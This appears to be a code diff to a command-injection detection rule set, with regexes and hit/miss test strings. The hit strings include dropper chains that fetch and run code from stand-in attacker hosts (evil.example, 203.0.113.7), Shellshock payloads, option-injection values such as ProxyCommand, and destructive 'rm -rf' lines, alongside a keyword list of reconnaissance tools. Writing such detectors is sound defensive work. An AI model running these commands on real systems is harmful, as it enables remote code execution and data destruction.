@@ -11,6 +11,12 @@ const PROGRAMS =
 const TELLING =
   "whoami|uname|netstat|ifconfig|ipconfig|printenv|systeminfo|tasklist|nslookup|traceroute|wget|getent|lsof|lscpu|dmesg|mkfifo|cat /[a-z]{1,12}|ls -[a-z]{1,12}|ping -[a-z]{1,12}";
 
+/** A command within a sentence about what it prints. */
+function tellsOf(text: string): boolean {
+  // linear: at most 8192 bytes (callers cut the text, and its repetitions are bounded)
+  return /^[a-z]{2,8} (?:-[a-z0-9]{1,4} )?[\w./-]{1,80} [a-z']{2,12} [a-z0-9']{1,12}\b[^;|&`$<>]{0,400}$/.test(text);
+}
+
 const ROWS: readonly SignatureRow[] = [
   {
     slug: "rce-command",
@@ -39,7 +45,17 @@ const ROWS: readonly SignatureRow[] = [
       "ping",
     ],
     hits: ["/bin/ls -al", "/usr/bin/id", "cat /etc/motd", "id|", "ping -n 31 127.0.0.1", "cmd.exe /c dir", "/bin/sh -c id"],
-    misses: ["/bin/bash", "/usr/bin/python3", "cat pictures", "type: id", "ls -la", "head of state", "ping me"],
+    misses: [
+      "/bin/bash",
+      "/usr/bin/python3",
+      "cat pictures",
+      "type: id",
+      "ls -la",
+      "head of state",
+      "ping me",
+      "tail -f /var/log/app/error.log shows nothing new",
+    ],
+    unless: tellsOf,
   },
   {
     slug: "rce-separator",
@@ -170,11 +186,11 @@ const ROWS: readonly SignatureRow[] = [
   {
     slug: "rce-shellshock",
     title: "Shellshock: a function definition as a value",
-    pattern: String.raw`^\(\) ?\{|\(\) ?\{ ?(?::|_|[a-z]{1,9}) ?;|\(\) ?\{ ?[^}]{0,60}\} ?;`,
+    pattern: String.raw`^\(\) ?\{|(?:^|[^a-z0-9_$) ]) ?\(\) ?\{ ?(?:(?::|_|[a-z]{1,9}) ?;|[^}]{0,60}\} ?;)`,
     needs: ["() {", "(){"],
     targets: HEADERS | AGENT | COOKIES | INPUT,
     hits: ["() { :; }; /bin/bash -c id", "() { _; } >_[$($())] { id; }", "(){ :;};echo x"],
-    misses: ["function () { return 1 }", "f() and {}", "a () b {"],
+    misses: ["function () { return 1 }", "f() and {}", "a () b {", "window.onload = function() { show('x'); };"],
   },
   {
     slug: "rce-substitution",
@@ -216,10 +232,31 @@ const ROWS: readonly SignatureRow[] = [
     paranoia: 2,
   },
   {
+    slug: "rce-options",
+    title: "Command injection: an option that starts a program",
+    pattern: String.raw`^[a-z0-9_./]{0,40} ?-{1,2}(?:o ?proxycommand ?=|upload-pack ?=|receive-pack ?=|use-compress-program ?=|checkpoint-action ?=|to-command ?=|use-askpass ?=|rsh-command ?=|rmt-command ?=|open-files-in-pager ?=|exec(?:dir)? (?:/[a-z/]{2,20}/)?[a-z]{2,12} (?:[^;]{0,60} )?\\?;$|o(?:utput(?:-document)?)?[ =][^ ]{1,100}\.(?:php\d?|phtml|jspx?|aspx?)$)`,
+    beginsValue: true,
+    needs: ["proxycommand", "-pack", "-program", "-action", "-command", "-askpass", "-in-pager", "-exec", "-o"],
+    hits: ["-oProxyCommand=touch x", "--upload-pack=touch", "--use-compress-program=sh", "-exec id \\;", "x --output=/srv/www/a.php"],
+    misses: ["find . -name x -exec rm {} \\;", "--output=report.pdf", "the -o option", "-exec"],
+  },
+  {
+    slug: "rce-dropper",
+    title: "Command injection: a chain of commands that fetches a program",
+    pattern: String.raw`\bcd /(?:tmp|var/[a-z]{2,6}|dev/shm|mnt|root)\b[^<>]{0,120}(?:wget|curl|tftp|ftpget) |(?:^|[;|&] ?)(?:wget|curl|tftp|ftpget) [^;|&]{0,40}(?:http|ftp)?:?/{0,2}\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}[^;|&]{0,80}[;|&]{1,2} ?(?:chmod|ba?sh|sh|\./)|^rm -(?:rf|fr|r) (?:/|\*|~)[^ ]{0,40} ?(?:;|&&|$)`,
+    needs: ["wget", "curl", "tftp", "ftpget", "rm -"],
+    hits: [
+      "cd /tmp; wget http://evil.example/x.sh; sh x.sh",
+      "wget http://203.0.113.7/a; chmod 777 a; ./a",
+      "rm -rf /tmp/*;wget http://203.0.113.7/b",
+    ],
+    misses: ["rm -rf node_modules", "cd /srv/app && npm ci", "curl -LO https://a.example/x && chmod +x x", "wget https://a.example/a.deb"],
+  },
+  {
     slug: "rce-tokens",
     title: "Command injection: text that becomes a shell command",
     detect: injectsShell,
-    needs: [";", "|", "&", "`", "$(", "$ifs", "${ifs", "\n"],
+    needs: [";", "|", "&", "`", "$(", "$ifs", "${ifs", "\n", "<(", ">("],
     hits: [
       "; sleep 15",
       "&& sleep 10",
